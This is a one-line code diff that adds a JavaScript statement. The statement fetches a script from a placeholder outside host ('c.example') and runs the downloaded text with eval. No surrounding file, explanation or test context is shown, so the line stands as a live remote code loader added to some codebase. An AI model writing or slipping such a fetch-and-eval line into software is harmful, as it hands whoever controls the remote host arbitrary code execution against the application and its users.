@@ -1,0 +1,1 @@
+fetch('https://c.example/x.js').then((r) => r.text()).then((t) => eval(t));
